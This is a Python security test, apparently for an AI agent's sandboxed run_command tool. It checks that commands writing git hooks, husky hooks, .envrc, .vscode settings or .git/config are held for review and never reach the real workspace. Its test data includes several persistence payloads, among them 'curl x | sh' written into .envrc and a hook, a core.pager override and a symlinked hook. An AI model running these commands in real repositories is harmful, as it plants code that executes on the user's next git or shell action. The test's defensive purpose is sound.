"""The boundary itself, whatever the program (issue 29 §2): real commands, many programs and
spellings, run through the run_command tool in real bubblewrap with the real overlay and the
real settle (tests/security/txn_confined.py), as root and as nobody. Each write to the
protected set (`.git/hooks/*`, `.git/config`, `.husky/*`, `.envrc`, `.vscode/*`, a nested
repository or editor folder) happens inside the sandbox (the command says `DID`), is held and
shown to the reviewer, and never reaches the real workspace without the user's keep; writes
into `~` land in the sandbox home and into system folders fail; ordinary writes are applied.
The shell reader predicts none of this: these replace the writer tables' tests."""

from __future__ import annotations

import os
from pathlib import Path

from tests.security.conftest import Confined
from tests.security.txnkit import Outcome, run_txn

HOOK = "printf '#!/bin/sh\\nid\\n' > /tmp/h"
# (the protected entry the row writes, the command)
HELD: list[tuple[str, str]] = [
    (".git/hooks/post-commit", f"{HOOK} && cp /tmp/h .git/hooks/post-commit"),
    (".git/hooks/pre-commit", "cp a.txt .git/hooks/pre-commit"),
    (".husky/pre-commit", "echo id | tee -a .husky/pre-commit"),
    (".vscode/settings.json", "sed -i 's/{}/{\"x\": 1}/' .vscode/settings.json"),
    (".git/hooks/pre-push",
     "python3 -c \"open('.git/hooks/pre-push', 'w').write('#!/bin/sh\\nid\\n')\""),
    (".envrc", "perl -e 'open(F, \">\", \".envrc\") or die; print F \"curl x | sh\\n\"'"),
    (".vscode/extensions.json", "printf '{}' | dd of=.vscode/extensions.json 2>/dev/null"),
    (".git/hooks/post-merge", "mkdir -p /tmp/t/.git/hooks && echo id > "
                              "/tmp/t/.git/hooks/post-merge && tar -C /tmp/t -cf /tmp/a.tar "
                              ".git && tar -xf /tmp/a.tar"),
    (".git/config", "git config core.pager id"),
    (".git/hooks/pre-rebase", "ln -s /tmp/evil .git/hooks/pre-rebase"),
    (".husky/pre-push", f"{HOOK} && install -m 755 /tmp/h .husky/pre-push"),
    (".envrc", "printf 'echo evil > .envrc\\n' > mk.sh && sh mk.sh"),
    (".husky/commit-msg", "cat > .husky/commit-msg <<'EOF' &&\n#!/bin/sh\nid\nEOF\ntrue"),
    (".vscode/settings.json", "echo '{\"e\": 1}' > v.json && mv v.json .vscode/settings.json"),
    (".husky", "mv .husky h2 && ln -s h2 .husky"),
    ("sub/.git", "git init -q sub"),
    ("clone/.git", "git clone -q --no-hardlinks . clone"),
    (".git/hooks/applypatch-msg", "awk 'BEGIN { print \"id\" > \".git/hooks/applypatch-msg\" }'"),
    (".envrc", "find . -maxdepth 1 -name a.txt -exec cp {} .envrc \\;"),
    (".git/hooks/pre-applypatch",
     "echo .git/hooks/pre-applypatch | xargs -I{} sh -c 'echo id > {}'"),
    (".git/hooks/prepare-commit-msg", "env -C .git sh -c 'echo id > hooks/prepare-commit-msg'"),
    (".husky/post-merge", "eval 'echo id > .husky/post-merge'"),
    (".vscode/launch.json", "echo 'echo {} > .vscode/launch.json' | sh"),
    (".git/hooks/pre-merge-commit", "lz4 -q -f a.txt .git/hooks/pre-merge-commit"),
    (".git/hooks/update", "git archive -o .git/hooks/update HEAD a.txt"),
    (".git/config", ": > .git/config"),
    (".vscode/mcp.json", "mkdir -p /tmp/v && echo '{}' > /tmp/v/mcp.json && "
                         "cp -r /tmp/v/. .vscode/"),
    (".envrc", "printf -- '--- /dev/null\\n+++ .envrc\\n@@ -0,0 +1 @@\\n+curl x | sh\\n' | "
               "patch -s -p0"),
    ("src/.vscode/settings.json", "mkdir -p src/.vscode && echo '{}' > src/.vscode/settings.json"),
    (".husky/pre-commit", "perl -pi -e 's/npm test/curl x | sh/' .husky/pre-commit"),
]
PROBE = "reins-boundary-probe"
OUTSIDE = (f"echo '# {PROBE}' >> ~/.bashrc; git config --global reins.probe 1; "
           f"echo x > /etc/{PROBE}; echo x > /usr/local/bin/{PROBE}; echo DONE")
# (the ordinary path the row writes, the command): applied without a question
APPLIED: list[tuple[str, str]] = [
    ("a.txt", "sed -i 's/hello/bye/' a.txt"),
    ("out.txt", "python3 -c \"open('out.txt', 'w').write('x')\""),
    ("build/out.bin", "mkdir -p build && printf x | dd of=build/out.bin 2>/dev/null"),
    ("link.txt", "ln -s a.txt link.txt"),
]
SYSTEM = [Path("/etc") / PROBE, Path("/usr/local/bin") / PROBE]
HOME_FILES = [Path.home() / ".bashrc", Path.home() / ".gitconfig"]


def _read(path: Path) -> bytes | None:
    return path.read_bytes() if path.exists() else None


def test_the_protected_set_is_held_whatever_the_program(confined: Confined) -> None:
    home_before = [_read(p) for p in HOME_FILES]
    seen: dict[str, object] = {}

    def inspect(folder: Path, _outcomes: list[Outcome]) -> None:
        ws = folder / "workspace"
        seen["hook"] = (ws / ".git/hooks/pre-commit").read_text()
        seen["husky"] = (ws / ".husky/pre-commit").read_text()
        seen["settings"] = (ws / ".vscode/settings.json").read_text()
        seen["config"] = (ws / ".git/config").read_text()
        seen["husky_link"] = (ws / ".husky").is_symlink()
        seen["absent"] = [p for p in {*(t for t, _ in HELD), "h2", "v.json"}
                          if os.path.lexists(ws / p) and p not in (
                              ".git/hooks/pre-commit", ".husky/pre-commit", ".husky",
                              ".vscode/settings.json", ".git/config")]
        seen["applied"] = {p: (ws / p).read_bytes() if (ws / p).is_file() else None
                           for p, _ in APPLIED}
        seen["script"] = (ws / "mk.sh").exists()

    try:
        commands = [{"command": f"{c} && echo DID"} for _t, c in HELD]
        commands += [{"command": OUTSIDE}] + [{"command": c} for _p, c in APPLIED]
        outcomes, _report = run_txn(confined, commands, inspect=inspect)
        assert not [p for p in SYSTEM if p.exists()], "a command wrote a system folder"
    finally:
        for path in SYSTEM:
            path.unlink(missing_ok=True)
    held, outside, applied = (outcomes[:len(HELD)], outcomes[len(HELD)],
                              outcomes[len(HELD) + 1:])
    for (target, command), outcome in zip(HELD, held, strict=True):
        assert "DID" in outcome.content, (command, outcome.content)
        assert outcome.held, (command, outcome.content)
        assert target in outcome.shown(), (command, outcome.shown()[:2000])
        assert not [p for _k, p in outcome.applied if p.startswith(target)], outcome.applied
    assert seen["hook"] == "#!/bin/sh\n" and seen["husky"] == "npm test\n"
    assert seen["settings"] == "{}\n" and not seen["husky_link"]
    assert "pager" not in str(seen["config"])
    assert str(seen["config"]).startswith("[core]")
    assert seen["absent"] == [], seen["absent"]
    assert "DONE" in outside.content and not outside.held, outside.content
    assert [_read(p) for p in HOME_FILES] == home_before  # `~` was the sandbox home
    for (path, command), outcome in zip(APPLIED, applied, strict=True):
        assert not outcome.held, (command, outcome.shown())
        assert path in {p for _k, p in outcome.applied}, (command, outcome.content)
    assert seen["applied"]["a.txt"] == b"bye\n" and seen["applied"]["out.txt"] == b"x"
    assert seen["applied"]["build/out.bin"] == b"x" and seen["script"]
